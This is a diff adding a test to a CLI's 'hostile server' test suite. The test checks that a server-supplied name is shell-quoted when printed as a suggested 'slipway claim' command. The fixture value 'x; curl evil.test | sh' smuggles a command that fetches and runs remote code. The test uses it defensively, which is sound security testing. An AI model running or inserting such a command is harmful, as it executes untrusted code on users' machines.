@@ -109,6 +109,20 @@ describe('a hostile server', () => {
     }
   })
 
+  it('cannot add a program to a suggested command', async () => {
+    const { server, cli } = fixture
+    const suggestedName = 'x; curl evil.test | sh'
+    const upload = { versionId: 'v1', uploads: [], skipped: [], expiresInSeconds: 60 }
+    const site = { slug: 'otter', siteUrl: 'http://otter.test/', claimToken: 'secret', upload }
+    const done = { slug: 'otter', siteUrl: site.siteUrl, versionId: 'v1', currentVersionId: 'v1' }
+    const finalized = { ...done, previousVersionId: null, warnings: [], suggestedName }
+    server.reply(/^POST /, ({ path }) => (path.endsWith('/finalize') ? [200, finalized] : [201, site]))
+    cli.write({ 'index.html': 'x' })
+    const { code, stderr } = await cli.run(['publish', '.', '--new'])
+    assert.equal(code, 0, stderr)
+    assert.match(stderr, /^Keep it: slipway claim --name 'x; curl evil\.test \| sh'$/m)
+  })
+
   it('gets an error reported when it switches to another protocol', async () => {
     fixture.server.intercept = (_call, _request, { socket }) =>
       socket!.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n')
